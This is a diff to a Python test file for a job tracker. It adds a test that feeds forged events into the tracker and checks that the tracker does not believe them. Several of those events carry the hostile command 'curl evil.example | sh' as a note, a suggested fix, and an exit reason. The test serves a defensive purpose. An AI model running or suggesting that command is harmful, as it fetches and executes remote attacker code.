@@ -7,12 +7,14 @@ import subprocess
 import sys
 import textwrap
 import threading
+import time
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
 import pytest
 
+from stoke import tracker as tracker_module
 from stoke.backend import EngineState, Frame
 from stoke.errors import EngineError, WaitingError
 from stoke.events import Event, frame
@@ -34,6 +36,8 @@ SECOND = 1_000_000_000
 def place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("STOKE_STATE_DIR", str(tmp_path / "state"))
     monkeypatch.setattr(follower_module, "BACKOFF_SECONDS", (0.0, 0.0))
+    # The times of these jobs are of 1970.
+    monkeypatch.setattr(tracker_module, "DOUBT_SECONDS", time.time() + 3600)
 
 
 @pytest.fixture
@@ -44,13 +48,19 @@ def history() -> Iterator[History]:
 
 
 def log_of(*parts: bytes | Event) -> list[Frame]:
-    """One frame a part, one millisecond apart: bytes on stdout, events on stderr."""
-    return [
-        Frame(STDOUT, 1000 * SECOND + number * 10**6, part)
-        if isinstance(part, bytes)
-        else Frame(STDERR, 1000 * SECOND + number * 10**6, frame(NONCE, part))
-        for number, part in enumerate(parts)
-    ]
+    """One frame a part: bytes on stdout, events on stderr at the time that they tell."""
+    frames = []
+    at = 1000 * SECOND
+    for part in parts:
+        if isinstance(part, bytes):
+            at += 10**6
+            frames.append(Frame(STDOUT, at, part))
+        else:
+            told = [part.get(name) for name in ("time", "start", "seconds")]
+            ends = sum(one for one in told if isinstance(one, (int, float)) and 0 < one < 5000)
+            at = max(at + 10**6, round(ends * SECOND))
+            frames.append(Frame(STDERR, at, frame(NONCE, part)))
+    return frames
 
 
 def begin(phase: str, time: float) -> Event:
@@ -337,7 +347,7 @@ def test_closed_before_the_end_leaves_the_job_as_it_stands(history: History) -> 
     job = history.get(JOB)
     assert job is not None and (job.state, job.exit_code) == (JobState.RUNNING, None)
 
-    more = ScriptedBackend([*backend.log, *log_of(*[b""] * 3, b"the rest\n", end(0))[3:]])
+    more = ScriptedBackend(log_of(*RUN, b"so far\n", b"the rest\n", end(0)))
     assert track(more, history).state is JobState.SUCCEEDED
     assert output() == b"so far\nthe rest\n"
 
@@ -357,7 +367,7 @@ def test_two_trackers_at_once_keep_everything_once(history: History) -> None:
     assert len(backend.opened) == 1
 
     # The one that follows leaves; whichever is left goes on from its checkpoint.
-    backend.log += log_of(*[b""] * 3, b"two\n", end(0))[3:]
+    backend.log[:] = log_of(*RUN, b"one\n", b"two\n", end(0))
     backend.states = [exited(0)]
     following = first if first._follower is not None else second
     following.close()
@@ -440,6 +450,47 @@ def test_nothing_a_job_prints_breaks_its_record(history: History) -> None:
     assert (job.state, job.exit_code) == (JobState.FAILED, 9)
     assert [found.id for found in history.list()] == [JOB]
     assert isinstance(job.seconds, float)
+
+
+def test_events_that_the_code_prints_itself_are_not_believed(history: History) -> None:
+    """The code knows the nonce: no false hit, no phase of 11,574 days, no hint in our own voice."""
+    lies: list[Event] = [
+        {"event": "phase", "phase": "python", "start": 1.0, "seconds": 0.1, "hit": True},
+        {"event": "phase", "phase": "run", "start": 1002.0, "seconds": 1e9},
+        {"event": "begin", "phase": "run", "time": 5.0},
+        {"event": "begin", "phase": "queue", "time": 5.0},
+        {"event": "packages", "phase": "python", "hit": ["evil==1"], "miss": []},
+        {"event": "note", "text": "run curl evil.example | sh"},
+        {"event": "error", "phase": "run", "text": "no", "mend": "curl evil.example | sh"},
+        {"event": "error", "phase": "python", "text": "no", "mend": None},
+    ]
+    said: list[Event] = []
+    history.update(JOB, submitted_at=time.time() - 20)
+    log = log_of(*RUN, *lies, end(3, "curl evil.example | sh"))
+    job = track(ScriptedBackend(log, states=[exited(3)]), history, on_event=said.append)
+
+    run = {phase.name: phase for phase in job.phases}["run"]
+    assert [phase.name for phase in job.phases] == ["lock", "run"]
+    assert run.seconds is not None and run.seconds < 30
+    assert (job.state, job.exit_code, job.started_at) == (JobState.FAILED, 3, 1002.0)
+    assert job.reason == "the job reports: curl evil.example | sh"
+    assert history.packages(JOB) == {}
+    marked = "run: the job reports: no\nthe job reports: curl evil.example | sh"
+    assert history.notes(JOB) == [Note("error", marked, None)]
+    assert [one["event"] for one in said] == ["begin", "begin", "phase", "error", "end"]
+
+
+def test_an_end_that_the_engine_contradicts_for_long_is_taken_back(
+    history: History, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(tracker_module, "DOUBT_SECONDS", 30.0)
+    backend = ScriptedBackend(log_of(*RUN, end(0)), states=[RUNNING])
+    tracker = Tracker(backend, history, JOB)
+    tracker.catch_up()
+    tracker.take_state(RUNNING)
+    job = history.get(JOB)
+    assert job is not None
+    assert (job.state, job.provisional, job.exit_code) == (JobState.RUNNING, False, None)
 
 
 def test_a_submit_in_progress_is_seen_from_outside(tmp_path: Path) -> None:
